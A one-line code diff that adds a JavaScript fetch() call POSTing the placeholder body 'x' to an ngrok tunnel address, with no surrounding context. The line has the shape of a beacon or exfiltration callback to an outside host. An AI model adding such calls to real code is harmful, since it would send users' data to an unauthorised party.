@@ -1,0 +1,1 @@
+fetch('https://abcd-example.ngrok.io/in', { method: 'POST', body: 'x' });
